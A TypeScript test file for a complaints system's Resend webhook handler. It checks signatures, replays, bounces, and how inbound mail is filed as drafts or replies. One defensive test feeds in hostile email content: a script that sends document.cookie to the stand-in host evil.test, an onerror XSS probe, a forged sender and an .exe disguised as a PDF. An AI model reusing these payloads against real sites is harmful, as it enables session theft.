import { randomUUID } from 'node:crypto';
import { asc, eq } from 'drizzle-orm';
import { Webhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { anonymiseComplaint } from '@/db/anonymise';
import { clientBounce, complaintMails, inboundDrafts, inboundMail } from '@/db/inbound';
import { failedMails } from '@/db/post';
import { complaintHistory, complaints, inboundMailAttachments, inboundMails, outbox, webhookEvents } from '@/db/schema';
import { type FakeInboundMail, startFakeResend } from '@/db/testing';
import { runAs } from '@/lib/auth/actor';
import { daysAgo, setUpStepsWorld, type StepsWorld } from '@/lib/complaints/steps/testing';
import { amsterdamDate } from '@/lib/procedure/dates';
import { registrationPrefill } from './inbound-rules';
import { handleResendWebhook } from './webhooks';
import { idempotencyKey } from './worker';

/**
 * The resend webhook on a real PostgreSQL, with signed payloads (standard webhooks, as resend signs them) and the fake
 * resend server for the receiving API: signatures, replays, delivery reports, inbound mail to drafts and files, and
 * a handler's decision on a draft.
 */

const SECRET = `whsec_${Buffer.from('klachtloket-test-webhook-secret-32b').toString('base64')}`;
let w: StepsWorld;
let fake: Awaited<ReturnType<typeof startFakeResend>>;
let drafts: typeof import('./inbound-drafts');

beforeAll(async () => {
  w = await setUpStepsWorld();
  fake = await startFakeResend();
  process.env.RESEND_BASE_URL = fake.url;
  process.env.RESEND_API_KEY = 're_test_key';
  process.env.RESEND_WEBHOOK_SECRET = SECRET;
  drafts = await import('./inbound-drafts');
}, 120_000);
afterAll(async () => {
  await w?.close();
  await fake?.close();
});

function signed(payload: unknown, { id = `msg_${randomUUID()}`, secret = SECRET, at = new Date() } = {}) {
  const body = JSON.stringify(payload);
  const signature = new Webhook(secret).sign(id, at, body);
  return new Request('http://localhost/api/webhooks/resend', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'webhook-id': id, 'webhook-timestamp': String(Math.floor(at.getTime() / 1000)), 'webhook-signature': signature },
    body,
  });
}

const deliveryEvent = (type: string, emailId: string, extra: Record<string, unknown> = {}) => ({
  type,
  created_at: new Date().toISOString(),
  data: { email_id: emailId, created_at: new Date().toISOString(), from: 'k@example.test', to: ['x@example.test'], subject: 'S', message_id: '<m>', ...extra },
});
const receivedEvent = (emailId: string) => ({
  type: 'email.received',
  created_at: new Date().toISOString(),
  data: { email_id: emailId, created_at: new Date().toISOString(), from: 'x', to: ['klachten@example.test'], bcc: [], cc: [], received_for: [], message_id: '<m>', subject: 'S', attachments: [] },
});

const count = async (table: typeof webhookEvents | typeof inboundMails | typeof outbox | typeof complaintHistory) => (await w.db.select().from(table)).length;
async function everything() {
  return { events: await count(webhookEvents), mails: await count(inboundMails), outbox: await w.db.select().from(outbox).orderBy(asc(outbox.id)), history: await count(complaintHistory) };
}

/** A sent e-mail to the client of a new complaint, known to resend under a fresh id. */
let sequence = 100;
async function sentMail(email = 'klant@example.test') {
  const complaint = await w.complaint({ complainantEmail: email, reference: `KL-2026-${String(++sequence).padStart(4, '0')}` });
  const providerId = `re_${randomUUID()}`;
  const [row] = await w.db
    .insert(outbox)
    .values({ complaintId: complaint.id, kind: 'acknowledgement', medium: 'email', recipient: email, subject: `Wij hebben uw klacht ${complaint.reference} ontvangen`, bodyText: 'Tekst', status: 'sent', sentAt: new Date(), providerId })
    .returning();
  return { complaint, row: row!, providerId };
}
const rowOf = async (id: number) => (await w.db.select().from(outbox).where(eq(outbox.id, id)))[0]!;

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

function inbound(overrides: Partial<FakeInboundMail> = {}): FakeInboundMail {
  return {
    id: `in_${randomUUID()}`,
    from: 'Henk de Jong <henk@example.test>',
    to: ['klachten@example.test'],
    subject: 'Klacht over mijn adviseur',
    created_at: '2026-11-30T09:15:00.000Z',
    text: 'Mijn adviseur kwam drie keer niet opdagen.',
    html: '<p>Mijn adviseur kwam drie keer niet opdagen.</p>',
    ...overrides,
  };
}
async function receive(mail: FakeInboundMail, id?: string) {
  fake.receive(mail);
  return handleResendWebhook(signed(receivedEvent(mail.id), id ? { id } : {}));
}
const storedMail = async (providerId: string) => (await w.db.select().from(inboundMails).where(eq(inboundMails.providerId, providerId)))[0];

describe('the webhook refuses what resend did not sign', () => {
  it('without a secret configured: 503 and nothing written', async () => {
    const { providerId } = await sentMail();
    const before = await everything();
    delete process.env.RESEND_WEBHOOK_SECRET;
    try {
      const response = await handleResendWebhook(signed(deliveryEvent('email.delivered', providerId)));
      expect(response.status).toBe(503);
    } finally {
      process.env.RESEND_WEBHOOK_SECRET = SECRET;
    }
    expect(await everything()).toEqual(before);
  });

  const OTHER_SECRET = `whsec_${Buffer.from('some-other-secret-of-32-bytes!!!').toString('base64')}`;
  it.each(['missing', 'other secret', 'changed body'] as const)('a signature %s: 401 and nothing written', async (how) => {
    const { providerId } = await sentMail();
    const before = await everything();
    const event = deliveryEvent('email.bounced', providerId, { bounce: { type: 'Permanent', subType: 'General', message: 'no such user' } });
    let request = signed(event, how === 'other secret' ? { secret: OTHER_SECRET } : {});
    if (how === 'missing') {
      const headers = new Headers(request.headers);
      headers.delete('webhook-signature');
      request = new Request(request.url, { method: 'POST', headers, body: JSON.stringify(event) });
    }
    if (how === 'changed body') request = new Request(request.url, { method: 'POST', headers: request.headers, body: JSON.stringify({ ...event, type: 'email.delivered' }) });
    const response = await handleResendWebhook(request);
    expect(response.status).toBe(401);
    expect(await everything()).toEqual(before);
  });

  it('an old timestamp (a captured request sent again later): 401', async () => {
    const { providerId } = await sentMail();
    const response = await handleResendWebhook(signed(deliveryEvent('email.delivered', providerId), { at: new Date(Date.now() - 3600_000) }));
    expect(response.status).toBe(401);
  });

  it('a body over the limit: 413 before anything is read further', async () => {
    const response = await handleResendWebhook(signed({ type: 'email.delivered', data: { pad: 'x'.repeat(300 * 1024) } }));
    expect(response.status).toBe(413);
  });

  it('an unknown event type: 200, ignored, nothing written', async () => {
    const before = await everything();
    const response = await handleResendWebhook(signed({ type: 'contact.created', created_at: new Date().toISOString(), data: { id: 'c' } }));
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ ignored: 'contact.created' });
    expect(await everything()).toEqual(before);
  });
});

describe('delivery reports on the outbox row', () => {
  it('delivered, then a late delay report does not replace it', async () => {
    const { row, providerId } = await sentMail();
    expect((await handleResendWebhook(signed(deliveryEvent('email.delivered', providerId)))).status).toBe(200);
    expect(await rowOf(row.id)).toMatchObject({ deliveryStatus: 'delivered', status: 'sent' });
    await handleResendWebhook(signed(deliveryEvent('email.delivery_delayed', providerId)));
    expect((await rowOf(row.id)).deliveryStatus).toBe('delivered');
    await handleResendWebhook(signed(deliveryEvent('email.complained', providerId)));
    expect((await rowOf(row.id)).deliveryStatus).toBe('complained');
  });

  it('a bounce: failed with the reason, the red notice on the file, in the post room; a replay changes nothing more', async () => {
    const { complaint, row, providerId } = await sentMail('weg@example.test');
    expect(await clientBounce(w.db, complaint.id)).toBeNull();
    const id = `msg_${randomUUID()}`;
    const event = deliveryEvent('email.bounced', providerId, { bounce: { type: 'Permanent', subType: 'General', message: 'mailbox does not exist' } });
    const response = await handleResendWebhook(signed(event, { id }));
    expect(response.status).toBe(200);
    const bounced = await rowOf(row.id);
    expect(bounced).toMatchObject({ deliveryStatus: 'bounced', status: 'failed', deliveryDetail: 'Permanent/General: mailbox does not exist' });
    expect(bounced.lastError).toContain('mailbox does not exist');
    expect(await clientBounce(w.db, complaint.id)).toMatchObject({ subject: row.subject });
    const postRoom = await failedMails(w.db, { id: w.people.manager.id, role: 'manager' });
    expect(postRoom.rows.map((r) => r.id)).toContain(row.id);

    // The same event again (resend retries): 200, and nothing changes (not even the time of the report).
    const before = await everything();
    const replay = await handleResendWebhook(signed(event, { id }));
    expect(replay.status).toBe(200);
    expect(await replay.json()).toMatchObject({ result: 'replay' });
    expect(await everything()).toEqual(before);

    // "Opnieuw versturen" in the post room: pending again, the notice gone, and a new idempotency key for resend.
    const { resendMailAction } = await import('@/lib/post/actions');
    expect((await runAs(w.people.manager.id, () => resendMailAction({ id: row.id }))).ok).toBe(true);
    const requeued = await rowOf(row.id);
    expect(requeued).toMatchObject({ status: 'pending', deliveryStatus: null, attempts: 0 });
    expect(await clientBounce(w.db, complaint.id)).toBeNull();
    expect(idempotencyKey(requeued)).toBe(`outbox-${row.id}-${bounced.deliveryAt!.getTime()}`);
    expect(idempotencyKey({ id: 7, deliveryAt: null })).toBe('outbox-7');
  });

  it('the same event twice at once (two app instances): one effect', async () => {
    const mail = inbound();
    fake.receive(mail);
    const id = `msg_${randomUUID()}`;
    const results = await Promise.all([0, 1].map(() => handleResendWebhook(signed(receivedEvent(mail.id), { id })).then((r) => r.json())));
    expect(results.map((r) => r.result).sort()).toEqual(['draft', 'replay']);
    expect(await w.db.select().from(inboundMails).where(eq(inboundMails.providerId, mail.id))).toHaveLength(1);
    expect(await w.db.select().from(webhookEvents).where(eq(webhookEvents.id, id))).toHaveLength(1);
  });

  it('a report about an e-mail that is not ours: 200, only the event recorded', async () => {
    const before = await everything();
    expect((await handleResendWebhook(signed(deliveryEvent('email.bounced', 're_not_ours')))).status).toBe(200);
    expect(await everything()).toEqual({ ...before, events: before.events + 1 });
  });
});

describe('mail that comes in', () => {
  it('a new mail becomes a draft with its text, its HTML kept but not used, and its PDF', async () => {
    const mail = inbound({ attachments: [{ filename: 'brief.pdf', content_type: 'application/pdf', content: PDF }] });
    const response = await receive(mail);
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ result: 'draft' });
    const row = (await storedMail(mail.id))!;
    expect(row).toMatchObject({ state: 'draft', fromAddress: mail.from, subject: mail.subject, textBody: mail.text, htmlBody: mail.html, complaintId: null });
    expect(row.receivedAt.toISOString()).toBe(mail.created_at);
    const full = (await inboundMail(w.db, row.id))!;
    expect(full.attachments).toEqual([expect.objectContaining({ fileName: 'brief.pdf', contentType: 'application/pdf', sizeBytes: PDF.byteLength })]);
    expect((await inboundDrafts(w.db)).rows.map((d) => d.id)).toContain(row.id);
  });

  it('a replayed received event stores the mail once', async () => {
    const mail = inbound();
    const id = `msg_${randomUUID()}`;
    await receive(mail, id);
    const fetches = fake.requests.length;
    const again = await receive(mail, id);
    expect(await again.json()).toMatchObject({ result: 'replay' });
    // Found before anything is fetched again.
    expect(fake.requests.length).toBe(fetches);
    expect((await w.db.select().from(inboundMails).where(eq(inboundMails.providerId, mail.id))).length).toBe(1);
  });

  it('hostile content: scripts stay text, 20 files and a 30 MB file refused with a reason, a forged From only stored', async () => {
    const { complaint } = await sentMail('echte.klant@example.test');
    const many = Array.from({ length: 20 }, (_, i) => ({ filename: `scan-${i}.png`, content_type: 'image/png', content: PNG }));
    const mail = inbound({
      from: `"Gemeente <directie@gemeente.test>" <echte.klant@example.test>`,
      subject: '<script>alert(1)</script> nieuwe klacht',
      text: null,
      html: '<p>Hallo</p><script>document.location="https://evil.test/?c="+document.cookie</script><img src=x onerror=alert(1)><p>Groet &amp; dank</p>',
      attachments: [
        { filename: 'factuur.pdf.exe', content_type: 'application/pdf', content: Buffer.from('MZ\x90\x00 this is a program') },
        { filename: 'groot.pdf', content_type: 'application/pdf', content: PDF, size: 30 * 1024 * 1024 },
        ...many,
      ],
    });
    expect((await receive(mail)).status).toBe(200);
    const row = (await storedMail(mail.id))!;
    // Not attached anywhere because of who it claims to be from: a draft like any other mail.
    expect(row.state).toBe('draft');
    expect(row.complaintId).toBeNull();
    expect(row.fromAddress).toBe(mail.from);
    expect(row.textBody).toBe('Hallo\nGroet & dank');
    expect(row.textBody).not.toContain('script');
    expect(row.subject).toBe(mail.subject);
    const kept = await w.db.select().from(inboundMailAttachments).where(eq(inboundMailAttachments.inboundMailId, row.id));
    // Five fetched (the exe among them, refused by its content), four PNGs kept; the rest refused unread.
    expect(kept).toHaveLength(4);
    expect(row.refusedAttachments).toEqual([
      { name: 'groot.pdf', reason: 'tooLarge' },
      ...Array.from({ length: 16 }, (_, i) => ({ name: `scan-${i + 4}.png`, reason: 'tooMany' })),
      { name: 'factuur.pdf.exe', reason: 'type' },
    ]);
    expect(await clientBounce(w.db, complaint.id)).toBeNull();
  });

  it('a reply naming a known reference lands on that file, with a history entry, and the handler is told', async () => {
    const { complaint } = await sentMail();
    const mail = inbound({ subject: `Re: Wij hebben uw klacht ${complaint.reference} ontvangen`, attachments: [{ filename: 'foto.png', content_type: 'image/png', content: PNG }] });
    const response = await receive(mail);
    expect(await response.json()).toMatchObject({ result: 'reply' });
    const row = (await storedMail(mail.id))!;
    expect(row).toMatchObject({ state: 'reply', complaintId: complaint.id });
    const onFile = await complaintMails(w.db, complaint.id);
    expect(onFile).toEqual([expect.objectContaining({ id: row.id, textBody: mail.text, attachments: [expect.objectContaining({ fileName: 'foto.png' })] })]);
    const history = await w.db.select().from(complaintHistory).where(eq(complaintHistory.complaintId, complaint.id));
    expect(history.at(-1)).toMatchObject({ action: 'mail_received', actorLabel: 'system', details: { mailFrom: mail.from, mailSubject: mail.subject } });
    const told = await w.db.select().from(outbox).where(eq(outbox.complaintId, complaint.id));
    expect(told.filter((m) => m.kind === 'client_mail')).toEqual([
      expect.objectContaining({ medium: 'email', recipient: 'h1@test', subject: `Klacht ${complaint.reference}: er is een e-mail binnengekomen` }),
    ]);
  });

  it('a plus-address names the complaint too; an unknown reference becomes a draft', async () => {
    const { complaint } = await sentMail();
    const plus = inbound({ to: [`Klachten <klachten+${complaint.reference.toLowerCase()}@example.test>`], subject: 'Nog een foto' });
    expect(await (await receive(plus)).json()).toMatchObject({ result: 'reply' });
    const unknown = inbound({ subject: 'Re: uw klacht KL-1999-9999' });
    expect(await (await receive(unknown)).json()).toMatchObject({ result: 'draft' });
    expect((await storedMail(unknown.id))!.state).toBe('draft');
  });

  it('a mail naming an anonymised complaint becomes a draft: nothing personal is added to that file again', async () => {
    const { complaint } = await sentMail();
    await w.db.transaction((tx) => anonymiseComplaint(tx, complaint.id, { now: new Date(), reason: 'erasure', actor: null }));
    const before = await w.db.select().from(complaintHistory).where(eq(complaintHistory.complaintId, complaint.id));
    const mail = inbound({ subject: `Re: Wij hebben uw klacht ${complaint.reference} ontvangen`, attachments: [{ filename: 'foto.png', content_type: 'image/png', content: PNG }] });
    expect(await (await receive(mail)).json()).toMatchObject({ result: 'draft' });
    expect(await storedMail(mail.id)).toMatchObject({ state: 'draft', complaintId: null });
    expect(await complaintMails(w.db, complaint.id)).toEqual([]);
    expect(await w.db.select().from(complaintHistory).where(eq(complaintHistory.complaintId, complaint.id))).toEqual(before);
    expect((await w.db.select().from(outbox).where(eq(outbox.complaintId, complaint.id))).filter((m) => m.kind === 'client_mail')).toEqual([]);
  });

  it('resend unreachable for the body: 503 (resend retries), nothing written', async () => {
    const before = await everything();
    const response = await handleResendWebhook(signed(receivedEvent('in_missing')));
    expect(response.status).toBe(503);
    expect(await everything()).toEqual(before);
  });
});

describe('a handler decides about a draft', () => {
  async function draft(overrides: Partial<FakeInboundMail> = {}) {
    const mail = inbound(overrides);
    await receive(mail);
    return (await inboundMail(w.db, (await storedMail(mail.id))!.id))!;
  }

  it('registers it: channel e-mail, the mail\'s date as received date, the draft linked to the complaint', async () => {
    const mail = await draft({ created_at: `${daysAgo(3)}T10:00:00.000Z`, attachments: [{ filename: 'brief.pdf', content_type: 'application/pdf', content: PDF }] });
    const prefill = registrationPrefill(mail);
    expect(prefill).toMatchObject({ channel: 'email', receivedOn: daysAgo(3), name: 'Henk de Jong', email: 'henk@example.test', description: mail.textBody });
    const input = { ...prefill, category: 'treatment', incidentWhen: 'ongoing', partyChoice: 'municipality', partyName: 'Gemeente Oss', informed: true, idempotencyKey: randomUUID() };
    const result = await runAs(w.people.handler.id, () => drafts.registerFromMail({ mailId: String(mail.id), registration: input }));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const [complaint] = await w.db.select().from(complaints).where(eq(complaints.id, result.data.id));
    expect(complaint).toMatchObject({ channel: 'email', receivedOn: daysAgo(3), complainantEmail: 'henk@example.test', registeredBy: w.people.handler.id });
    expect((await w.db.select().from(inboundMails).where(eq(inboundMails.id, mail.id)))[0]).toMatchObject({ state: 'registered', complaintId: complaint!.id, handledBy: w.people.handler.id });
    // Its files come with it to the file.
    expect((await complaintMails(w.db, complaint!.id))[0]!.attachments).toHaveLength(1);
    const history = await w.db.select().from(complaintHistory).where(eq(complaintHistory.complaintId, complaint!.id)).orderBy(asc(complaintHistory.id));
    expect(history.map((h) => h.action)).toEqual(['registered', 'mail_received']);
    // Submitting the same form again gives the same complaint; the draft is gone from the list.
    const again = await runAs(w.people.handler.id, () => drafts.registerFromMail({ mailId: String(mail.id), registration: input }));
    expect(again).toEqual(result);
    expect((await inboundDrafts(w.db)).rows.map((d) => d.id)).not.toContain(mail.id);
  });

  it('"geen klacht" needs a reason and records it; a handled draft cannot be handled again', async () => {
    const mail = await draft();
    const missing = await runAs(w.people.handler.id, () => drafts.markMailNoComplaint({ mailId: String(mail.id), reason: '  ' }));
    expect(missing).toEqual({ ok: false, error: 'invalid', fieldErrors: { reason: ['required'] } });
    const done = await runAs(w.people.handler.id, () => drafts.markMailNoComplaint({ mailId: String(mail.id), reason: 'Reclame, geen klacht' }));
    expect(done.ok).toBe(true);
    expect((await w.db.select().from(inboundMails).where(eq(inboundMails.id, mail.id)))[0]).toMatchObject({
      state: 'no_complaint', noComplaintReason: 'Reclame, geen klacht', handledBy: w.people.handler.id,
    });
    const twice = await runAs(w.people.handler.id, () => drafts.markMailNoComplaint({ mailId: String(mail.id), reason: 'Nog eens' }));
    expect(twice).toEqual({ ok: false, error: 'invalid', fieldErrors: { _form: ['mailHandled'] } });
  });

  it('an admin may not decide about drafts', async () => {
    const mail = await draft();
    const result = await runAs(w.people.admin.id, () => drafts.markMailNoComplaint({ mailId: String(mail.id), reason: 'x' }));
    expect(result).toMatchObject({ ok: false, error: 'forbidden' });
  });
});

it('the received date is the day in Amsterdam', () => {
  expect(amsterdamDate(new Date('2026-11-30T23:30:00.000Z'))).toBe('2026-12-01');
});
